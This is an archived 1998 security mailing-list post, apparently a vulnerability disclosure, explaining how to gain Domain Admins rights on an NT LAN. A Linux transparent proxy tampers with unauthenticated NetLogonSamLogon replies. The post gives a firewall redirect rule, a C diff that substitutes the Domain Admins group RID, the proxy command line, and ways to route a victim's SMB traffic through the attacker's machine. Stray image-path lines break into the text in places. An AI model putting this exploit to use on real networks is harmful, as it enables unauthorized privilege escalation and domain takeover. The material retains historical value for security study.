Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Windows Net Apps :: getntd.txt

Obtaining Domain Admins access on a LAN

Date: Wed, 28 Jan 1998 13:35:00 +0000
From: Paul Ashton <paul@ARGO.DEMON.CO.UK>
Subject: Gaining Domain Admins access on LAN

Quite a while ago when publishing the NT domain authentication
protocol, I mentioned that the contents of the NetLogonSamLogon
packet were unauthenticated.

Recently I have been using Linux's transparent proxy support to
do things like transparently filter outgoing access to port 80
through the Linux firewall via the junkbuster privacy program
(cookie removal etc.) and the squid web cache.

It turns out that changing the NetLogonSamLogon packet using
transparent proxy support is trivial. No need to bother with
recalculating TCP checksums etc.

Here's what you need to do if you want to change your domain
group DOMGRP1 (let's say it's RID 0x03F3) to Domain Admins,RID

Get transproxy-0.3 from
Make sure yourLinux kernel has been compiled with transparent
proxy support.

Install the following firewall rule:-

ipfwadm -I -a accept -P tcp -D 0/0 139 -r 150

This will redirect attempts to connect to port 139 to the local
port 150Start the transparent proxy daemon on port 150 that will modify
the contents of MS RPCs that go through it.

Modify tproxy.c with the following diff:
*** tproxy.c    Wed Jan 28 14:17:31 1998
--- orgtproxy.c Mon Jan 26 20:14:46 1998
*** 795,814 ****

-                               {
-                               int i;
-                               unsigned char oldgroup[8] = {0xf3,0x03,0,0,7,0,0,0};
-                               unsigned char newgroup[8] = {0x00,0x02,0,0,7,0,0,0};
-                               for (i = 0; i < read_len-8; i++)
-                                       if (!memcmp(headers+i, oldgroup, 8))
-                                               memcpy(headers+i,newgroup,8);
                                if (write(sock, headers, read_len) < 0)
                                        syslog(LOG_WARNING, "write(client) failed: %m");
-                               }--- 795,805 ----

Compile and run
./tproxy -t -s 150 -r nobody pdchost 139

pdchost is the name or IP address of a PDC or BDC which you wish
to authenticate to.

Convince your workstation to send SMB TCP/139 stuff through your
linux firewall. You can do this in various ways such as setting
default routes, physically interposing the linux firewall between
the workstation and the rest of the network, responding to netbios
name queries using Samba, creating your own DHCP server, etc.

For the purposes of this test I changed the IP address of the
workstation and set the default route to be the Linux server.

CTL-ALT-DEL and login as a user in DOMGRP1 and voila you now have
domain admin rights.

I don't think SMB signing will protect this because the connection
to the RPC named pipe is done as a null session. But I haven't
tried it.

Run this at your own peril. The group substitution will change
all occurrences of the listed 8 bytes (RID+attributes) anywhere
in a TCP 139 packet.TUCoPS is optimized to look best in Firefox® on a widescreen monitor (1440x900 or better).
Site design &layout copyright © 1986-2015 AOH